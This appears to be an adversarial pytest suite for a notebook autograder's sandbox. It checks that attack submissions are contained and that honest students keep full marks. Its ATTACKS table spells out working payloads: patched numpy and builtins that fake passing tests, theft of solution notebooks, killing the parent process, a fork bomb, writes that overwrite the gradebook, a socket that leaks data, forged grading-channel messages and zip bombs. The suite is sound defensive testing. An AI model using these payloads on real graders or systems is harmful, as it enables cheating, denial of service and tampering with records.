"""Hostile submissions, graded next to honest ones in one run (two workers, short time limits).

Each attack lives in one student's notebook: cheats that fooled stock nbgrader (patched
numpy, an IPython input transformer, reading the instructor's notebook, rewriting the
gradebook, killing the grader, a child process that outlives grading, ``os._exit``), resource
abuse (an endless loop, a 30 GB allocation, a fork bomb, a 100 MB print), escapes (reading
and writing outside the working folder, a socket), notebook tampering, and attacks on the
grading channel (issue 12: messages the grader did not ask for, reference theft, a reply
never read, huge helper requests, a zip of 300,000 members, a patched ``tracemalloc``). The
assertions check each attack's outcome, that the honest neighbours keep full marks, and that
nothing on disk changes but the grader's own outputs.
"""

from __future__ import annotations

import ast
import hashlib
import os
import resource
import socket
import threading
from pathlib import Path

import nbformat
import pytest

from autograder.checks import lab_checks
from autograder.classroom import grade_all
from autograder.course import REPO_ROOT, get_lab
from autograder.grade import Grader
from autograder.release import build_release
from autograder.runner import run_job
from autograder.samples import make_submission
from autograder.sandbox import Limits, isolation

pytestmark = pytest.mark.slow
LAB = "lab1_knn"
NOTEBOOK = "knn.ipynb"
FULL = 10.0
MARKER = "987651"  # a sleep duration no other process on the machine uses
GRADER_GROWTH_BOUND = 700 * 2**20  # the grading process's peak RSS may grow this much

# Student code can write on the worker's channel: its descriptors are in sys.argv, and the
# protocol module is importable in the sandbox (the worker itself runs it).
CHANNEL = """
import sys
from autograder.protocol import Channel, HelperAnswer, HelperCall, parse
_channel = Channel(int(sys.argv[1]), int(sys.argv[2]), 2**31)
"""


def _frame_code(payload_expression: str) -> str:
    """Code that writes one raw frame (8-byte length, then bytes) on the worker's channel."""
    return f"""
import os, struct, sys
_payload = {payload_expression}
os.write(int(sys.argv[2]), struct.pack(">Q", len(_payload)) + _payload)
"""


def _theft(names) -> str:
    """Every graded function replaced by a request for the grader's reference of itself."""
    return CHANNEL + f"""
def _steal(name):
    def thief(*args, **kwargs):
        _channel.send(HelperCall(name, args, kwargs))
        return parse(_channel.receive(), HelperAnswer).value
    return thief
for _name in {sorted(names)!r}:
    globals()[_name] = _steal(_name)
"""


LAB1_FUNCTIONS = sorted({c.function for c in lab_checks(LAB).values()})

# Appended to the named solution cell of an otherwise correct submission unless stated.
ATTACKS = {
    "patch-numpy": ("distances_two_loops", """
import builtins
import numpy
numpy.allclose = lambda *a, **k: True
numpy.testing.assert_allclose = lambda *a, **k: None
builtins.abs = lambda x: 0
builtins.AssertionError = type("AssertionError", (Exception,), {})
import sys
sys.modules["numpy"].array_equal = lambda *a, **k: True
print("All tests passed! 10/10")
def compute_distances_two_loops(X, X_train):
    return np.zeros((len(X), len(X_train)))
"""),
    "input-transformer": ("distances_two_loops", """
get_ipython().input_transformers_post.append(lambda lines: ["pass\\n"])
"""),
    "read-solutions": ("distances_two_loops", """
import glob
import json
for pattern in ["../../../source/*/*.ipynb", "@REPO@/solutions/*/*.ipynb",
                "@OUT@/nbgrader/source/*/*.ipynb", "/**/solutions/lab1_knn/*.ipynb"]:
    for path in glob.glob(pattern, recursive=True)[:3]:
        try:
            cells = json.load(open(path))["cells"]
        except Exception:
            continue
        for cell in cells:
            if cell.get("metadata", {}).get("nbgrader", {}).get("solution"):
                exec("".join(cell["source"]))
"""),
    "kill-parent": ("predict_labels", """
import os
import signal
for target in (os.getppid(), 0, -1):
    try:
        os.kill(target, signal.SIGKILL) if target else os.killpg(0, signal.SIGKILL)
    except Exception:
        pass
"""),
    "session-child": ("predict_labels", f"""
import subprocess
subprocess.Popen(["sleep", "{MARKER}"], start_new_session=True)
import os
if os.fork() == 0:
    os.setsid()
    os.execvp("sleep", ["sleep", "{MARKER}"])
""".replace("{MARKER}", MARKER)),
    "os-exit": ("cross_validate_k", """
import os
os._exit(0)
"""),
    "sys-exit": ("cross_validate_k", """
import sys
sys.exit(0)
"""),
    "endless-loop": ("distances_two_loops", """
def compute_distances_two_loops(X, X_train):
    while True:
        pass
"""),
    "huge-allocation": ("distances_one_loop", """
big = np.ones((30, 2**30))
"""),
    "fork-bomb": ("predict_labels", """
import os
children = 0
try:
    while children < 10_000:
        if os.fork() == 0:
            import time
            time.sleep(60)
            os._exit(0)
        children += 1
except OSError:
    pass
"""),
    "big-print": ("distances_no_loops", """
print("x" * 100_000_000)
"""),
    "write-outside": ("distances_no_loops", """
import os
for path in ["@REPO@/solutions/PWNED", "@OUT@/PWNED", "@SUBMITTED@/PWNED", "/tmp/nnlabs-PWNED",
             "../PWNED", "@OUT@/nbgrader/gradebook.db", "@OUT@/results/honest-a.json"]:
    try:
        with open(path, "a") as handle:
            handle.write("pwned")
    except Exception:
        pass
"""),
    # --- the grading channel (issue 12) ------------------------------------------------
    "reference-theft": ("cross_validate_k", _theft(LAB1_FUNCTIONS)),  # blank otherwise
    # only the function of the test that declares helpers, so the request comes while helpers
    # are answered, for a name that test does not provide
    "reference-theft-declared": ("cross_validate_k", _theft(["cross_validate_k"])),
    "timer-reset": ("distances_two_loops", """
import os, struct, sys, threading, time
from autograder.wire import encode

def _forge():  # the old protocol's "a new test starts now", every 2 s
    while True:
        payload = encode({"event": "test_start", "id": "test_distances_two_loops"})
        os.write(int(sys.argv[2]), struct.pack(">Q", len(payload)) + payload)
        time.sleep(2)

_fast = compute_distances_two_loops
def compute_distances_two_loops(X, X_train):
    threading.Thread(target=_forge, daemon=True).start()
    time.sleep(12)  # over the 5 s limit
    return _fast(X, X_train)
"""),
    "forged-result": ("distances_two_loops", CHANNEL + """
import time
from autograder.protocol import CaseResult
_fast = compute_distances_two_loops
_case = [0]
def compute_distances_two_loops(X, X_train):
    # answer for the grader at once, then take 12 s (over the limit) to return
    _channel.send(CaseResult("test_distances_two_loops", _case[0],
                             {"value": _fast(X, X_train), "peak": None}))
    _case[0] += 1
    time.sleep(12)
    return _fast(X, X_train)
"""),
    "reply-never-read": ("cross_validate_k", CHANNEL + """
import time
def cross_validate_k(X, y, k_choices, num_folds=5):
    points = np.random.default_rng(0).random((400, 1))  # a 1.3 MB answer, never read
    _channel.send(HelperCall("compute_distances_no_loops", (points, points), {}))
    time.sleep(3600)
"""),
    "huge-helper-request": ("cross_validate_k", CHANNEL + """
_honest = cross_validate_k
def cross_validate_k(*args, **kwargs):
    for n in (10_000, 4_000):  # N x N answers: 800 MB and 128 MB
        points = np.random.default_rng(n).random((n, 1))
        _channel.send(HelperCall("compute_distances_no_loops", (points, points), {}))
        answer = parse(_channel.receive(), HelperAnswer)
        assert answer.error is not None, "the grader computed an N x N reference"
    return _honest(*args, **kwargs)
"""),
    "made-up-results": ("cross_validate_k", """
import io, json, os, struct, sys, zipfile
from autograder import wire
from autograder.protocol import CaseResult, to_wire
_arrays = {}
_meta = wire._to_meta(to_wire(CaseResult("test_made_up", 0, {
    "value": np.zeros(1, np.uint8), "peak": None})), _arrays, 0)
_buffer, _meta_npy = io.BytesIO(), io.BytesIO()
np.save(_meta_npy, np.frombuffer(json.dumps(_meta).encode(), np.uint8))
with zipfile.ZipFile(_buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as _zip:
    _zip.writestr("__meta__.npy", _meta_npy.getvalue())
    with _zip.open("a0.npy", "w") as _member:  # 400 MB of zeros, compressed to 1.7 MB
        np.lib.format.write_array_header_1_0(_member, {
            "descr": "|u1", "fortran_order": False, "shape": (400 * 2**20,)})
        for _ in range(100):
            _member.write(bytes(2**22))
_payload = _buffer.getvalue()
for _number in range(5):
    os.write(int(sys.argv[2]), struct.pack(">Q", len(_payload)) + _payload)
"""),
    "zip-members": ("cross_validate_k", _frame_code("_archive()").replace("_payload =", """
def _archive(count=300_000):  # empty members, each listed in the central directory
    local, central = bytearray(), bytearray()
    for i in range(count):
        name = b"%d.npy" % i
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 0, 0, 0, 0, 0,
                               0, len(name), 0, 0, 0, 0, 0, len(local)) + name
        local += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 0, 0, 0, 0,
                             len(name), 0) + name
    return bytes(local + central + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 65535,
                                               65535, len(central), len(local), 0))
_payload =""", 1)),
    "patched-tracemalloc": ("distances_no_loops", """
import tracemalloc
tracemalloc.start = lambda *args: None
tracemalloc.stop = lambda: None
tracemalloc.get_traced_memory = lambda: (0, 0)
def compute_distances_no_loops(X, X_train):  # a (num_test, num_train, D) array: 80 MB
    return np.sqrt(((X[:, None, :] - X_train[None]) ** 2).sum(-1))
"""),
    "socket": ("distances_no_loops", """
import socket
for host in ("127.0.0.1", "10.0.2.2", "pypi.org"):
    try:
        socket.create_connection((host, @PORT@), timeout=1).sendall(b"leak")
    except Exception:
        pass
"""),
}


def _listen():
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    received = []
    stop = threading.Event()

    def accept():
        server.settimeout(0.5)
        while not stop.is_set():
            try:
                received.append(server.accept()[0].recv(10))
            except OSError:
                continue

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    return server, received, stop


def _tree_digest(folder: Path) -> dict[str, str]:
    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file()}


def _sleepers() -> list[int]:
    found = []
    for entry in Path("/proc").iterdir():
        try:
            if entry.name.isdigit() and MARKER in (entry / "cmdline").read_text():
                found.append(int(entry.name))
        except OSError:
            continue
    return found


def _write(nb, folder: Path, name: str = NOTEBOOK) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, folder / name)


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    root = tmp_path_factory.mktemp("adversarial")
    release, submitted, out = root / "release", root / "submitted", root / "out"
    build_release([get_lab(LAB)], release)
    server, received, stop = _listen()
    port = server.getsockname()[1]

    def submission(variant="solution"):
        return make_submission(LAB, NOTEBOOK, variant, release)

    for honest in ("honest-a", "honest-b", "honest-z"):
        _write(submission(), submitted / honest / LAB)
    _write(submission("blank"), submitted / "blank" / LAB)
    for name, (cell_id, code) in ATTACKS.items():
        # would score only by cheating
        blank = name in ("input-transformer", "read-solutions", "reference-theft",
                         "reference-theft-declared")
        nb = submission("blank" if blank else "solution")
        for token, value in {"@REPO@": REPO_ROOT, "@OUT@": out, "@SUBMITTED@": submitted,
                             "@PORT@": port}.items():
            code = code.replace(token, str(value))
        for cell in nb.cells:
            if cell.metadata.get("nbgrader", {}).get("grade_id") == cell_id:
                cell.source += "\n" + code
        _write(nb, submitted / f"attack-{name}" / LAB)
    _tamper(submission, submitted)

    watched = {"solutions": REPO_ROOT / "solutions", "labs": REPO_ROOT / "labs",
               "submitted": submitted}
    before = {k: _tree_digest(v) for k, v in watched.items()}
    peak_before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024
    rows = grade_all(submitted, LAB, out, workers=2,
                     limits=Limits(cell_seconds=5, submission_seconds=60))
    growth = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024 - peak_before
    print(f"the grading process's peak RSS grew by {growth / 2**20:.0f} MB")
    stop.set()
    server.close()
    after = {k: _tree_digest(v) for k, v in watched.items()}
    by = {}
    for row in rows:
        by.setdefault(row.student, []).append(row)
    return by, before, after, received, out, submitted, growth


def _tamper(submission, submitted: Path) -> None:
    nb = submission()
    nb.cells = [c for c in nb.cells if c.get("id") != "test_predict_labels"]
    _write(nb, submitted / "tamper-deleted-test" / LAB)

    nb = submission()
    for cell in nb.cells:
        if cell.get("id") == "test_predict_labels":
            cell.cell_type = "markdown"
            cell.pop("outputs", None)
            cell.pop("execution_count", None)
    _write(nb, submitted / "tamper-markdown-test" / LAB)

    nb = submission()
    for cell in nb.cells:
        if cell.get("id") == "test_predict_labels":
            cell.source = "assert True  # the hidden test was here"
    _write(nb, submitted / "tamper-edited-test" / LAB)

    nb = submission()
    index = next(i for i, c in enumerate(nb.cells) if c.get("id") == "distances_two_loops")
    duplicate = nbformat.from_dict(dict(nb.cells[index]))
    duplicate["id"] = "copy-of-two-loops"
    duplicate.source = "def compute_distances_two_loops(X, X_train):\n    return 0\n"
    nb.cells.insert(index + 1, duplicate)
    _write(nb, submitted / "tamper-duplicated" / LAB)

    folder = submitted / "tamper-invalid-json" / LAB
    folder.mkdir(parents=True)
    (folder / NOTEBOOK).write_text('{"cells": [}')

    _write(submission(), submitted / "tamper-renamed" / LAB, "knn (1).ipynb")


def _score(by, student):
    return sum(r.points for r in by[student])


def _passed(by, student):
    return {r.test for r in by[student] if r.status == "passed"}


def test_sandbox_uses_full_isolation_here():
    # CI runs as root on Linux; anything less would make the escape tests below meaningless.
    assert isolation() == "namespaces"


def test_honest_neighbours_keep_full_marks(graded):
    by = graded[0]
    for student in ("honest-a", "honest-b", "honest-z"):
        assert _score(by, student) == FULL, by[student]
        assert by[student][0].outcome == "graded"
    assert _score(by, "blank") == 0


def test_patched_numpy_and_fake_output_change_nothing(graded):
    by = graded[0]
    assert "test_distances_two_loops" not in _passed(by, "attack-patch-numpy")
    assert _score(by, "attack-patch-numpy") == FULL - 2


def test_input_transformer_does_not_skip_the_tests(graded):
    assert _score(graded[0], "attack-input-transformer") == 0


def test_the_instructor_notebook_is_out_of_reach(graded):
    # A blank notebook that execs every solution cell it can find: it scores only if it can.
    assert _score(graded[0], "attack-read-solutions") == 0


def test_killing_the_parent_or_group_does_not_stop_grading(graded):
    by = graded[0]
    assert set(by) >= {"honest-z", "tamper-renamed"}  # graded after the attack
    # Its parent is outside its process namespace, and the worker is that namespace's
    # init, which signals from inside cannot kill: nothing happens at all.
    assert _score(by, "attack-kill-parent") == FULL


def test_no_process_outlives_grading(graded):
    assert _sleepers() == []


def test_os_exit_costs_only_the_cell_it_is_in(graded):
    by = graded[0]
    rows = by["attack-os-exit"]
    assert rows[0].outcome.startswith("kernel died"), rows[0].outcome
    assert _passed(by, "attack-os-exit") == {
        "test_distances_two_loops", "test_distances_one_loop", "test_distances_no_loops",
        "test_predict_labels"}


def test_sys_exit_is_an_error_in_its_cell_only(graded):
    by = graded[0]
    assert _score(by, "attack-sys-exit") == FULL  # the function was defined before the exit


def test_endless_loop_times_out_alone(graded):
    by = graded[0]
    rows = {r.test: r for r in by["attack-endless-loop"]}
    assert rows["test_distances_two_loops"].status == "failed"
    assert "timed out" in rows["test_distances_two_loops"].message
    assert rows["test_distances_two_loops"].outcome.startswith("timed out")
    assert _score(by, "attack-endless-loop") == FULL - 2


def test_huge_allocation_is_out_of_memory(graded):
    by = graded[0]
    assert by["attack-huge-allocation"][0].outcome.startswith("out of memory")
    assert _score(by, "attack-huge-allocation") == FULL  # the definition ran before it


def test_fork_bomb_is_contained(graded):
    by = graded[0]
    assert _score(by, "attack-fork-bomb") == FULL


def test_big_print_is_harmless(graded):
    assert _score(graded[0], "attack-big-print") == FULL


def test_nothing_outside_the_grader_outputs_changes(graded):
    by, before, after, _, out, submitted, _ = graded
    assert before == after
    for path in [REPO_ROOT / "solutions" / "PWNED", out / "PWNED", submitted / "PWNED",
                 Path("/tmp/nnlabs-PWNED")]:
        assert not path.exists(), path
    assert _score(by, "attack-write-outside") == FULL
    assert _score(by, "honest-a") == FULL  # its stored result was not overwritten


def test_no_network(graded):
    assert graded[3] == []


@pytest.mark.parametrize(("student", "outcome", "score"), [
    ("tamper-deleted-test", "tampered", FULL),
    ("tamper-markdown-test", "tampered", FULL),
    ("tamper-edited-test", "tampered", FULL),
    ("tamper-duplicated", "tampered", FULL),
    ("tamper-invalid-json", "invalid notebook", 0),
    ("tamper-renamed", "graded", FULL),
])
def test_tampering_is_reported_and_graded_from_the_instructor_copy(graded, student, outcome,
                                                                   score):
    rows = graded[0][student]
    assert rows[0].outcome.startswith(outcome), rows[0].outcome
    assert _score(graded[0], student) == score


def test_every_row_says_why(graded):
    for rows in graded[0].values():
        for row in rows:
            assert row.message and os.linesep not in row.outcome


# --- the grading channel (issue 12) ---------------------------------------------------------
def _outcome(by, student) -> str:
    return by[student][0].outcome


def test_every_student_has_rows_and_the_grader_memory_stays_bounded(graded):
    by, *_, submitted, growth = graded
    assert set(by) == {p.name for p in submitted.iterdir()}
    assert all(len(rows) == 5 for rows in by.values())
    assert growth < GRADER_GROWTH_BOUND, f"{growth / 2**20:.0f} MB"


@pytest.mark.parametrize(("student", "reason"), [
    ("attack-reference-theft", "expected CaseResult, got 'HelperCall'"),
    ("attack-reference-theft-declared", "'cross_validate_k', which 'test_cross_validate_k' "
                                        "does not provide"),
])
def test_stealing_the_reference_of_the_function_under_test_is_tampering(graded, student,
                                                                        reason):
    # Before: a blank notebook scored 8/10 this way. Now the first request for a reference
    # that the running test did not declare ends the run.
    by = graded[0]
    outcome = _outcome(by, student)
    assert outcome.startswith("tampered: the grading channel"), outcome
    assert reason in outcome
    assert _score(by, student) == 0


def test_a_forged_message_cannot_reset_the_timer(graded):
    # Before: "test_start" every 2 s let a 12 s function pass under a 5 s limit.
    by = graded[0]
    assert _outcome(by, "attack-timer-reset").startswith("tampered"), by["attack-timer-reset"]
    assert "test_distances_two_loops" not in _passed(by, "attack-timer-reset")
    assert _score(by, "attack-timer-reset") <= FULL - 2


def test_a_result_sent_early_does_not_beat_the_clock(graded):
    # The forged first answer is accepted as that case's answer (student code could have
    # returned it), but the grader's own deadline for the test still runs out.
    by = graded[0]
    rows = {r.test: r for r in by["attack-forged-result"]}
    assert rows["test_distances_two_loops"].status == "failed"
    assert _score(by, "attack-forged-result") <= FULL - 2
    assert _outcome(by, "attack-forged-result").startswith(("timed out", "tampered"))


def test_a_helper_answer_never_read_does_not_block_the_grader(graded):
    # Before: the grader blocked in os.write forever and grades.csv was never written.
    by = graded[0]
    rows = {r.test: r for r in by["attack-reply-never-read"]}
    assert "timed out" in rows["test_cross_validate_k"].message
    assert _outcome(by, "attack-reply-never-read").startswith("timed out")
    assert _score(by, "attack-reply-never-read") == FULL - 2


def test_huge_helper_requests_are_refused_outside_the_grader(graded):
    # Before: N = 10,000 made the grader compute a 2.4 GB reference in its own process. Now
    # the arguments are capped by the test, and a capped request whose answer is too large
    # fails in the reference-helper process; the honest code then gets full marks.
    by = graded[0]
    assert _score(by, "attack-huge-helper-request") == FULL, by["attack-huge-helper-request"]
    assert _outcome(by, "attack-huge-helper-request") == "graded"


def test_forged_results_for_made_up_tests_are_refused_before_inflating(graded):
    by = graded[0]
    outcome = _outcome(by, "attack-made-up-results")
    assert outcome.startswith("tampered: the grading channel"), outcome
    assert "inflate" in outcome
    assert _score(by, "attack-made-up-results") == 0  # no test ran before the forgery


def test_a_zip_of_300000_members_is_refused(graded):
    by = graded[0]
    outcome = _outcome(by, "attack-zip-members")
    assert outcome.startswith("tampered") and "members" in outcome, outcome
    assert _score(by, "attack-zip-members") == 0


def test_patching_tracemalloc_does_not_switch_the_memory_budget_off(graded):
    # Before: 10/10 for a broadcasting (N, M, D) solution. Memory is now read from /proc.
    by = graded[0]
    rows = {r.test: r for r in by["attack-patched-tracemalloc"]}
    message = rows["test_distances_no_loops"].message
    assert "MB of memory at its peak, more than the 13 MB allowed" in message, message
    assert _score(by, "attack-patched-tracemalloc") == FULL - 2


def test_the_worker_holds_no_hidden_case_before_its_cells_ran(tmp_path):
    # Before: the first cell could walk up the stack and read every hidden case. Now the
    # worker starts with the lab's name only: nothing reachable holds an input array.
    folder = tmp_path / "student" / LAB
    folder.mkdir(parents=True)
    release = tmp_path / "release"
    build_release([get_lab(LAB)], release)
    nbformat.write(make_submission(LAB, NOTEBOOK, "solution", release), folder / NOTEBOOK)
    grader = Grader(LAB, tmp_path / "out", gradebook=False)
    job = grader.prepare("student", folder).job
    assert sum(len(t.cases) for t in job.tests) > 0
    probe = """
import sys
import numpy
PLAN = ("Job", "TestPlan", "CasePlan", "RunCase", "Case")
found, seen = [], set()

def scan(value, where, depth=0):
    if id(value) in seen or depth > 5:
        return
    seen.add(id(value))
    if type(value).__name__ in PLAN or (isinstance(value, numpy.ndarray) and value.size >= 5):
        found.append(where)
    children = (value.values() if isinstance(value, dict) else value
                if isinstance(value, (list, tuple, set)) else
                vars(value).values() if hasattr(value, "__dict__")
                and not isinstance(value, type(sys)) else ())
    for child in list(children):
        scan(child, where, depth + 1)

frame = sys._getframe().f_back
while frame:
    scan(frame.f_locals, f"frame {frame.f_code.co_name}")
    frame = frame.f_back
for name, module in list(sys.modules.items()):
    if name.startswith("autograder"):
        scan(vars(module), f"module {name}")
raise RuntimeError(repr(sorted(set(found))))
"""
    first = job.cells[0]
    job = type(job)(job.lab, (type(first)(first.id, probe), *job.cells[1:]), job.tests[:1])
    work = tmp_path / "work"
    work.mkdir()
    record = run_job(job, work, 901, Limits())
    found = ast.literal_eval(record.cells[first.id].removeprefix("RuntimeError: "))
    assert found == [], found
    assert isinstance(record.tests[job.tests[0].id], list)  # the cases came afterwards


@pytest.fixture(scope="module")
def graded_lab5(tmp_path_factory):
    lab, notebook = "lab5_convnets", "convnet.ipynb"
    root = tmp_path_factory.mktemp("adversarial-lab5")
    release, submitted = root / "release", root / "submitted"
    build_release([get_lab(lab)], release)
    for honest in ("honest-a", "honest-b"):
        _write(make_submission(lab, notebook, "solution", release), submitted / honest / lab,
               notebook)
    _write(make_submission(lab, notebook, "blank", release), submitted / "blank" / lab,
           notebook)
    thief = make_submission(lab, notebook, "blank", release)
    functions = {c.function for c in lab_checks(lab).values() if c.function}
    last = [c for c in thief.cells if c.cell_type == "code"
            and c.metadata.get("nbgrader", {}).get("solution")][-1]
    last.source += "\n" + _theft(functions)
    _write(thief, submitted / "attack-reference-theft" / lab, notebook)
    rows = grade_all(submitted, lab, root / "out", workers=2,
                     limits=Limits(cell_seconds=30, submission_seconds=120))
    by = {}
    for row in rows:
        by.setdefault(row.student, []).append(row)
    return by


def test_lab5_reference_theft_is_tampering_and_honest_neighbours_are_exact(graded_lab5):
    # Before: a blank Lab 5 notebook scored 18/21 by asking for the reference of each layer.
    by = graded_lab5
    full = sum(r.max_points for r in by["honest-a"])
    assert _score(by, "honest-a") == _score(by, "honest-b") == full == 21
    assert _score(by, "blank") == 0
    assert _outcome(by, "attack-reference-theft").startswith("tampered: the grading channel")
    assert _score(by, "attack-reference-theft") == 0
